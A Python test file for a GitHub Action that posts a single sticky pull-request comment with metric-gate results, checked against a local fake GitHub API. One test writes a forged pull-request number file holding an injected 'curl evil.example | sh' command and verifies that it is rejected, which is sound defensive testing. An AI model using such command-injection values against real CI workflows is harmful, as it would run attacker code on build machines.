"""The action's compare-to and sticky pull-request comment, run the way a runner runs them, against a real HTTP
server on 127.0.0.1 that implements the GitHub REST calls the comment script makes (tests/support/github_api.py)."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support import factory, gitrepo
from tests.support.action import Runner
from tests.support.github_api import FakeGitHub

REPO = Path(__file__).resolve().parents[2]
ACTION_DIR = REPO / "github-action"
COMMENT_PY = ACTION_DIR / "comment.py"
CURRENT_PYTHON = {"install": {"python": sys.executable}}
MARKER = "<!-- pivot-ci comment: ci/verify -->"
PR = 7


@pytest.fixture
def github() -> Iterator[FakeGitHub]:
    server = FakeGitHub().start()
    yield server
    server.close()


def _scores(p: factory.Project, accuracy: float) -> None:
    p.write("m/scores.src.json", json.dumps({"accuracy": accuracy, "loss": 0.2}) + "\n")


def _pull_request_checkout(root: Path, home: Path, accuracy: float) -> tuple[factory.Project, gitrepo.GitRepo]:
    """A repository checked out as actions/checkout checks out a pull request: the merge commit of the
    pull request's head into the base, whose first parent (HEAD^1) is the base."""
    p = factory.new_project(root)
    repo = gitrepo.init(root, gitrepo.base_env(home))
    p.write("tools/copy.py", factory.COPY_PY)
    p.write("m/pivot.yaml", """
        stages:
          evaluate:
            cmd: python ../tools/copy.py scores.src.json metrics.json
            deps: [scores.src.json, ../tools/copy.py]
            metrics:
              - path: metrics.json
                fail_if: {accuracy: {drop: 0.01}}
        """)
    _scores(p, 0.90)
    p.run("repro", "--all").ok()
    repo.commit_all("base").ok()
    repo.git("checkout", "-q", "-b", "change").ok()
    _scores(p, accuracy)
    p.run("repro", "--all").ok()
    repo.commit_all("the pull request").ok()
    repo.git("checkout", "-q", "main").ok()
    repo.git("merge", "-q", "--no-ff", "change", "-m", "Merge change into main").ok()
    return p, repo


def _runner(tmp_path: Path, p: factory.Project, github: FakeGitHub, token: str, event: str = "pull_request",
            action_dir: Path = ACTION_DIR) -> Runner:
    event_file = tmp_path / "event.json"
    event_file.write_text(json.dumps({"number": PR, "pull_request": {"number": PR}} if event == "pull_request"
                                     else {"ref": "refs/heads/main"}))
    env = {"GITHUB_EVENT_NAME": event, "GITHUB_EVENT_PATH": str(event_file), "GITHUB_API_URL": github.url,
           "GITHUB_REPOSITORY": github.repo, "GITHUB_WORKFLOW": "ci", "GITHUB_JOB": "verify"}
    return Runner(action_dir, p.root, tmp_path / "runner-temp", env=env, token=token)


def test_pull_request_compares_with_its_base_and_keeps_one_sticky_comment(tmp_path: Path,
                                                                          github: FakeGitHub) -> None:
    p, repo = _pull_request_checkout(tmp_path / "repo", tmp_path / "home", accuracy=0.85)
    github.add(PR, "LGTM", "alice")
    github.add(PR, f"{MARKER}\nnot pivot's: the same marker, another author", "mallory")
    github.add(PR, "another comment", "bob")
    runner = _runner(tmp_path, p, github, "rw-token")

    failing = runner.run({"comment": "true"}, done=CURRENT_PYTHON)
    step = failing.steps["pivot"]
    assert failing.code == 1, step  # the accuracy gate: 0.9 -> 0.85
    assert " --compare-to HEAD\\^1" in step.stderr.splitlines()[0], step
    assert "::error file=m/pivot.yaml,line=7,title=pivot verify%3A metric gate evaluate%3Aaccuracy::" in step.stdout
    assert "#### Gates (HEAD^1 → workspace)" in step.summary and "❌" in step.summary
    ours = [c for c in github.on(PR) if c.login == "github-actions[bot]"]
    assert len(ours) == 1 and ours[0].body.startswith(MARKER + "\n### ❌ pivot verify")
    assert "fell by 0.05 (0.9 -&gt; 0.85), more than 0.01" in ours[0].body
    assert github.on(PR)[1].body.endswith("another author")  # mallory's comment is never edited
    assert [w[0] for w in github.writes()] == ["POST"]
    pages = [path for method, path, _ in github.log if method == "GET" and path.endswith("/comments")]
    assert len(pages) == 2  # 3 comments in pages of 2: the Link header was followed

    _scores(p, 0.95)  # the author fixes the regression: the same comment is updated in place
    p.run("repro", "--all").ok()
    passing = runner.run({"comment": "true"}, done=CURRENT_PYTHON)
    assert passing.code == 0, passing.steps["pivot"]
    assert passing.outputs["passed"] == "true"
    ours = [c for c in github.on(PR) if c.login == "github-actions[bot]"]
    assert len(ours) == 1 and ours[0].body.startswith(MARKER + "\n### ✅ pivot verify")
    assert [w[0] for w in github.writes()] == ["POST", "PATCH"]
    assert "pivot-ci: updated comment" in passing.steps["pivot"].stdout

    keyed = runner.run({"comment": "true", "comment-key": "py3.12", "compare-to": "none"}, done=CURRENT_PYTHON)
    assert keyed.code == 0 and "--compare-to" not in keyed.steps["pivot"].stderr
    assert [c.body.split("\n")[0] for c in github.on(PR) if c.login == "github-actions[bot]"] == [
        MARKER, "<!-- pivot-ci comment: ci/verify/py3.12 -->"]


def test_a_read_only_token_gives_a_notice_and_never_fails_the_step(tmp_path: Path, github: FakeGitHub) -> None:
    p, _ = _pull_request_checkout(tmp_path / "repo", tmp_path / "home", accuracy=0.95)
    run = _runner(tmp_path, p, github, "ro-token").run({"comment": "true"}, done=CURRENT_PYTHON)
    step = run.steps["pivot"]
    assert run.code == 0, step
    assert "::notice title=pivot-ci comment::cannot comment on pull request #7" in step.stdout
    assert "Resource not accessible by integration" in step.stdout
    assert github.comments == [] and github.writes() == [("POST", "/repos/octo/project/issues/7/comments", 403)]
    assert "#### Gates (HEAD^1 → workspace)" in step.summary  # the job summary has the report


def test_outside_pull_requests_nothing_is_compared_or_commented(tmp_path: Path, github: FakeGitHub) -> None:
    p, _ = _pull_request_checkout(tmp_path / "repo", tmp_path / "home", accuracy=0.85)
    run = _runner(tmp_path, p, github, "rw-token", event="push").run({"comment": "true"}, done=CURRENT_PYTHON)
    step = run.steps["pivot"]
    assert run.code == 0 and "--compare-to" not in step.stderr, step
    assert "not a pull_request event" in step.stdout and github.log == []


def test_shallow_clone_without_the_base_fails_with_the_fetch_depth_fix(tmp_path: Path, github: FakeGitHub) -> None:
    p, repo = _pull_request_checkout(tmp_path / "repo", tmp_path / "home", accuracy=0.95)
    clone = tmp_path / "clone"
    gitrepo.run(["git", "clone", "-q", "--depth", "1", f"file://{p.root}", str(clone)], tmp_path, repo.env).ok()
    (clone / ".pivot").mkdir(exist_ok=True)
    run = _runner(tmp_path, factory.Project(clone), github, "rw-token").run({}, done=CURRENT_PYTHON)
    step = run.steps["pivot"]
    assert run.code == 2, step
    assert "revision 'HEAD^1' is not a commit" in step.stderr and "fetch-depth: 2" in step.stderr
    assert "::error title=pivot-ci::pivot exited 2 without a report" in step.stdout


def _comment(args: list[str], github: FakeGitHub, tmp_path: Path,
             token: str = "rw-token") -> subprocess.CompletedProcess[str]:
    env = {"PATH": "/usr/bin:/bin", "PIVOT_CI_TOKEN": token, "GITHUB_API_URL": github.url,
           "GITHUB_REPOSITORY": github.repo, "GITHUB_WORKFLOW": "pivot comment", "GITHUB_JOB": "comment"}
    return subprocess.run([sys.executable, str(COMMENT_PY), *args], env=env, cwd=tmp_path, capture_output=True,
                          text=True, timeout=60)


def test_a_report_over_the_size_limit_is_cut_with_a_note(tmp_path: Path, github: FakeGitHub) -> None:
    body = tmp_path / "big.md"
    body.write_text("| a | b |\n|---|---|\n" + "".join(f"| row {i} | {'x' * 80} |\n" for i in range(3000)))
    out = _comment(["--body-file", str(body), "--pr", "3"], github, tmp_path)
    assert out.returncode == 0, out
    posted = github.on(3)[0].body
    assert len(posted) < 65_536 and posted.startswith("<!-- pivot-ci comment: pivot comment/comment -->\n| a | b |")
    assert posted.endswith("the job summary and the report files have all of it.\n")
    assert "| row 1 |" in posted and posted.split("\n\n> [!NOTE]")[0].endswith(" |")  # cut between rows


def test_the_comment_action_of_the_workflow_run_recipe(tmp_path: Path, github: FakeGitHub) -> None:
    """The privileged half of the fork recipe: data from an artifact, checked before anything is posted."""
    (tmp_path / "report.md").write_text("### ✅ pivot verify\n")
    (tmp_path / "pr.txt").write_text("12\n")
    sha = "a" * 40
    github.heads[12] = sha
    runner = Runner(ACTION_DIR / "comment", tmp_path, tmp_path / "runner-temp", token="rw-token",
                    env={"GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": github.repo,
                         "GITHUB_WORKFLOW": "pivot comment", "GITHUB_JOB": "comment"})
    inputs = {"body-file": "report.md", "pr-number-file": "pr.txt"}
    moved = runner.run({**inputs, "head-sha": "b" * 40})
    assert moved.code == 0 and "is not at bbbb" in moved.steps["comment"].stdout and github.comments == []
    posted = runner.run({**inputs, "head-sha": sha})
    assert posted.code == 0, posted.steps["comment"]
    assert [c.body for c in github.on(12)] == [
        "<!-- pivot-ci comment: pivot comment/comment -->\n### ✅ pivot verify\n"]
    (tmp_path / "pr.txt").write_text("12; curl evil.example | sh\n")
    forged = runner.run(inputs)
    assert forged.code == 2 and "::error title=pivot-ci comment::no comment posted: expected a pull request number" \
        in forged.steps["comment"].stdout
    assert len(github.comments) == 1
